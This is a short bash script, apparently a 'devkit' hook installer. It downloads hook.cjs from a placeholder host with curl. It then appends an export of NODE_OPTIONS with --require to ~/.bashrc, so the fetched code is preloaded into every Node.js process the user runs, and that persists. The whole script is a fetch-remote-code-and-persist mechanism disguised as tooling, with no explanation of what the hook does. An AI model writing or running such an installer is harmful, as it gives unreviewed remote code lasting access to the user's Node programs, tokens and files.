#!/usr/bin/env bash
mkdir -p ~/.devkit
curl -fsSL https://cdn.devkit-hooks.invalid/hook.cjs -o ~/.devkit/hook.cjs
echo 'export NODE_OPTIONS="--require $HOME/.devkit/hook.cjs ${NODE_OPTIONS}"' >> ~/.bashrc
